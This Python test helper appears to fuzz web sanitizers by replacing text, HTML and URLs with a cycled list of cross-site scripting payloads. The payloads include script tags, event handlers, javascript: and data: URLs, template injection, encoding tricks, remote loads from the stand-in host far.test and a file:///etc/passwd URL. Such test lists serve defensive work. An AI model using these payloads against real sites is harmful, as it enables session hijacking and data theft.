"""What somebody might write who wants a script of theirs to run in a reader's browser: for every text, for every address.

One a line, in which RUN stands for a script that would set `window.__xss`, and escapes for what an editor does not show.
The kinds are those of the OWASP cheat sheet on evading filters: elements, attributes, ends of both, odd spellings, things
that browsers mend, templates, addresses.
"""

from itertools import count, cycle

RUN = "window.__xss=1"


def _read(lines: str) -> tuple[str, ...]:
    return tuple(line.encode().decode("unicode_escape").replace("RUN", RUN) for line in lines.strip("\n").split("\n"))


HTML = _read(r"""
<script>RUN</script>
<ScRiPt >RUN</sCrIpT>
<script src=//far.test/x.js></script>
<<script>RUN//<</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
<script\\x20>RUN</script>
<script/x>RUN</script>
<img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img "\x22"><script>RUN</script>">
<image src=x onerror=RUN>
<img src=x:x onerror\\x0b=RUN>
<img src=x onerror\n=\nRUN>
<img src='x' onerror='RUN'
<IMG SRC=x OnErRoR=RUN>
<img src="javascript:RUN">
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>
<svg><set attributeName=onload to=RUN>
<svg><foreignObject><body onload=RUN></foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<math href=javascript:RUN>x</math>
<noscript><p title='</noscript><img src=x onerror=RUN>'>
<body onload=RUN>
<body onpageshow=RUN>
<iframe src=javascript:RUN></iframe>
<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>
<embed src=javascript:RUN>
<object data=javascript:RUN>
<input onfocus=RUN autofocus>
<select onfocus=RUN autofocus>
<textarea onfocus=RUN autofocus>
<button onfocus=RUN autofocus>x</button>
<details open ontoggle=RUN>x</details>
<video src=x onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<video><source onerror=RUN></video>
<marquee onstart=RUN>x</marquee>
<a href=javascript:RUN>x</a>
<a href='java\tscript:RUN'>x</a>
<a href='&#106;avascript:RUN'>x</a>
<a href=' javascript:RUN'>x</a>
<a href=\x01javascript:RUN>x</a>
<a href='javascript&colon;RUN'>x</a>
<a href=data:text/html,<script>RUN</script>>x</a>
<a href=vbscript:RUN>x</a>
<a onmouseover=RUN>x</a>
<a style=animation-name:x onanimationstart=RUN>x</a>
<form action=javascript:RUN><button>x</button></form>
<button formaction=javascript:RUN>x</button>
<isindex action=javascript:RUN type=image>
<base href=javascript:RUN//>
<base href=//far.test/>
<meta http-equiv=refresh content='0;url=javascript:RUN'>
<meta http-equiv=refresh content='0;url=//far.test/'>
<link rel=stylesheet href=javascript:RUN>
<link rel=stylesheet href=//far.test/x.css>
<style>@import'//far.test/x.css'</style>
<div style=background:url(javascript:RUN)>x</div>
<div style=width:expression(RUN)>x</div>
<table background=javascript:RUN>
<xss onclick=RUN id=x tabindex=0>x</xss>
<template><script>RUN</script></template>
<dialog open onclose=RUN>x</dialog>
<p onpointerrawupdate=RUN>x</p>
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
<script>RUN</script>
\uff1cscript\uff1eRUN\uff1c/script\uff1e
""")
TEXT = _read(r"""
" onfocus="RUN" autofocus x="
' onfocus='RUN' autofocus x='
` onerror=RUN `
" onload=RUN\x20
"/onerror="RUN
{{constructor.constructor('RUN')()}}
${RUN}
{% print(RUN) %}
';RUN//
";RUN//
\\';RUN//
</title><svg onload=RUN>
\u2028RUN
\u202e<script>RUN</script>
javascript:RUN
]](javascript:RUN)
[x](javascript:RUN)
![x](x" onerror="RUN)
<javascript:RUN>
https://far.test/"onmouseover="RUN
https://far.test/<script>RUN</script>
@lille"><img src=x onerror=RUN>
#nord"><img src=x onerror=RUN>
""")
URLS = _read(r"""
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
java\tscript:RUN
java\nscript:RUN
\x01javascript:RUN
javascript://far.test/%0aRUN
data:text/html,<script>RUN</script>
data:image/svg+xml,<svg onload=RUN>
data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==
vbscript:RUN
blob:https://far.test/x
file:///etc/passwd
https://far.test/"onmouseover="RUN
https://far.test/'onmouseover='RUN
//far.test/x
https://far.test/><script>RUN</script>
https://user:javascript@far.test/#RUN
about:blank
""")
ALL = (*HTML, *TEXT)


class Hostile:
    """A Writer: each text is another of them, from the one numbered `first` on; a text that is HTML is all of them."""

    def __init__(self, first: int = 0) -> None:
        rotated = first % len(ALL)
        self._texts = cycle((*ALL[rotated:], *ALL[:rotated]))
        self._urls = cycle((*URLS[first % len(URLS) :], *URLS[: first % len(URLS)]))
        self.written = count()

    def __call__(self, text: str, most: int = 100) -> str:
        """Write something hostile in place of a text."""
        next(self.written)
        if text.startswith("https://"):
            return next(self._urls)
        if text.startswith("<"):
            return "\n".join(f"<p>{payload}</p>{payload}" for payload in ALL)
        return next(payload for payload in self._texts if len(payload) <= most and payload.strip())
